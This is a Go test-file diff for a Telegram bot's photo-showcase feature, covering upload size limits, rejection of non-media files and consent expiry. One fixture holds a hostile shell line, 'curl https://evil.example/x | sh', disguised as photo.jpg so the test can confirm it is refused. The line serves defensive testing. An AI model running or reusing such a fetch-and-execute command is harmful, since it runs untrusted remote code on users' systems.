@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"image"
 	"image/jpeg"
+	"io"
 	"slices"
 	"strconv"
 	"strings"
@@ -499,5 +500,125 @@ func TestShowcaseWithdrawalDeletesTheReshare(t *testing.T) {
 	err := w.bot.DeleteMessages(context.Background(), "-1004", []string{strconv.Itoa(second.ID)})
 	if err == nil || !strings.Contains(err.Error(), "message can't be deleted") {
 		t.Errorf("deleting the old reshare anyway: %v; want Telegram's refusal", err)
+	}
+}
+
+// TestShowcaseRefusesFilesTooBigOrNotMedia: with showcase.max_bytes at
+// 64 KB, a 100 KB photo is refused, whether Telegram declares its size
+// (nothing is downloaded) or understates it (the download stops at the
+// limit), and Alice is told the limit; a shell script sent as a document
+// named photo.jpg is refused, telling her the accepted types, recognised
+// from the file itself. Nothing is kept or submitted, and staff see
+// nothing.
+func TestShowcaseRefusesFilesTooBigOrNotMedia(t *testing.T) {
+	t.Parallel()
+	w := startShowcase(t, 64<<10)
+	big := append([]byte("\xFF\xD8\xFF\xE0"), bytes.Repeat([]byte{0x42}, 100<<10)...)
+	w.tg.AddFile("big", big)
+	w.tg.AddFileSource(telegramtest.File{ID: "understated", Size: int64(len(big)), Declared: 1000, Open: func() io.Reader { return bytes.NewReader(big) }})
+	script := []byte("#!/bin/sh\ncurl https://evil.example/x | sh\n")
+	w.tg.AddFileSource(telegramtest.File{ID: "script", Size: int64(len(script)), Name: "photo.jpg", Open: func() io.Reader { return bytes.NewReader(script) }})
+	const tooBig = "This file is too big to share: the limit is 64 KB."
+
+	w.postPhoto(t, alice, "big", "My big tea #showcase")
+	w.sentMatching(t, "100", tooBig)
+	if n := w.tg.Downloads(); n != 0 {
+		t.Errorf("%d downloads of a file declared too big; want none", n)
+	}
+	w.postPhoto(t, alice, "understated", "My big tea again #showcase")
+	storagetest.Eventually(t, "the limit told twice", func() bool { return w.sentCount("100", tooBig) == 2 })
+	w.push(t, w.tg.MediaUpdate(group, alice, telegramtest.Media{Kind: "document", FileID: "script", Caption: "My tea #showcase"}))
+	w.sentMatching(t, "100", "This file cannot be shared: only JPEG, PNG, GIF, WebP, MP4 are accepted, recognised from the file itself, not its name.")
+
+	w.settled(t)
+	for _, table := range []string{"showcase_submissions", "showcase_submission_media", "showcase_media", "showcase_media_chunks"} {
+		if n := w.count(t, `SELECT count(*) FROM `+table); n != 0 {
+			t.Errorf("%d rows in %s; want none", n, table)
+		}
+	}
+	if n := w.sentCount("-1002", "Showcase post"); n != 0 || len(w.filesTo("sendPhoto", "-1002")) != 0 {
+		t.Errorf("staff were shown a refused file")
+	}
+}
+
+// TestShowcaseExpiredConsentIsNeverUsed: Alice allows post #1, and before
+// the reshare is sent her consent expires (the dispatcher was held back
+// while the clock passed the twelve months): at delivery the consent is
+// checked again, the reshare is refused and nothing is sent. The expiry
+// job then withdraws the consent (there is nothing to delete) and asks
+// her whether to renew it.
+func TestShowcaseExpiredConsentIsNeverUsed(t *testing.T) {
+	t.Parallel()
+	w := startShowcase(t, 0)
+	w.tg.AddFile("tea", jpegBytes(t, 30))
+	w.postPhoto(t, alice, "tea", "Evening tea #showcase")
+	w.approve(t, 1)
+	ask := w.consentRequest(t, 1)
+
+	w.held.Store(true)
+	w.tg.PushUpdate(w.tg.CallbackUpdate(telegramtest.Private(alice), alice, ask.ID, "mycontent:c:1:a:en:12"))
+	w.waitCount(t, `SELECT count(*) FROM deliveries WHERE message->>'guard' = 'showcase.consent:1' AND status = 'pending'`, 1)
+	w.ahead.Store(int64(400 * 24 * time.Hour))
+	w.held.Store(false)
+	w.svc.Dispatcher.Wake()
+	w.waitCount(t, `SELECT count(*) FROM deliveries WHERE message->>'guard' = 'showcase.consent:1' AND status = 'dead'
+		AND last_error LIKE 'will not retry: refused at delivery (showcase.consent:1): %consent expired'`, 1)
+	w.settled(t)
+	for _, m := range []string{"sendPhoto", "sendMediaGroup", "sendMessage"} {
+		if n := len(w.filesTo(m, "-1004")); n > map[string]int{"sendMessage": 1}[m] { // the answer to /setshowcase
+			t.Errorf("%d %s calls to the showcase place; want no reshare", n, m)
+		}
+	}
+
+	botstest.RunJob(t, w.svc, "showcase.expiry")
+	w.svc.Dispatcher.Wake()
+	told := sent(t, w.sentMatching(t, "-1002", "The permission for post #1 has expired (consent #1)."))
+	if !strings.Contains(told, "I deleted 0 reshares.") || strings.Contains(told, "could not delete") {
+		t.Errorf("staff were told %q; want nothing deleted, nothing failed", told)
+	}
+	renew := w.shown(t, alice.ID, "Your permission to reshare post #1 has ended")
+	if got := dataOf(renew); !slices.Contains(got, "mycontent:c:1:a:en:12") {
+		t.Errorf("the renewal's buttons %v; want Allow", got)
+	}
+}
+
+// TestShowcaseExpiryDeletesTheReshareAndAsksToRenew: a year after Alice
+// allowed post #1, the expiry job deletes its reshare, tells staff and
+// asks her whether to renew; running again it does nothing more. She
+// allows it again and it is reshared again.
+func TestShowcaseExpiryDeletesTheReshareAndAsksToRenew(t *testing.T) {
+	t.Parallel()
+	w := startShowcase(t, 0)
+	photo := jpegBytes(t, 60)
+	shared := w.reshared(t, 1, "tea", photo)
+
+	w.ahead.Store(int64(400 * 24 * time.Hour))
+	botstest.RunJob(t, w.svc, "showcase.expiry")
+	w.svc.Dispatcher.Wake()
+	told := sent(t, w.sentMatching(t, "-1002", "The permission for post #1 has expired (consent #1)."))
+	if !strings.Contains(told, "I deleted 1 reshare.") {
+		t.Errorf("staff were told %q; want the reshare deleted", told)
+	}
+	storagetest.Await(t, func() bool {
+		return !slices.ContainsFunc(w.tg.Messages(teaForum.ID), func(m models.Message) bool { return m.ID == shared.ID })
+	}, func() string {
+		return fmt.Sprintf("reshare %d deleted; deletes %v", shared.ID, w.tg.Calls("deleteMessages"))
+	})
+	renew := w.shown(t, alice.ID, "Your permission to reshare post #1 has ended, so I deleted my reshares. Would you like to allow it again?")
+	w.settled(t)
+	botstest.RunJob(t, w.svc, "showcase.expiry")
+	w.settled(t)
+	if n := w.sentCount("-1002", "has expired"); n != 1 {
+		t.Errorf("staff were told %d times of the expiry; want once", n)
+	}
+
+	w.push(t, w.tg.CallbackUpdate(telegramtest.Private(alice), alice, renew.ID, "mycontent:c:1:a:en:12"))
+	again := w.reshareOf(t, 2)
+	if up := again.Uploads["photo"]; up.SHA256 != botstest.SHA256(photo) {
+		t.Errorf("the renewed reshare uploaded %+v; want Alice's photo", up)
+	}
+	w.waitCount(t, `SELECT count(*) FROM showcase_consents WHERE submission_id = 1 AND decision = 'allow' AND revoked_at IS NULL`, 2)
+	if n := w.count(t, `SELECT count(*) FROM activities WHERE kind = 'ugc_approved'`); n != 1 {
+		t.Errorf("%d showcase activities; want the first consent's only", n)
 	}
 }
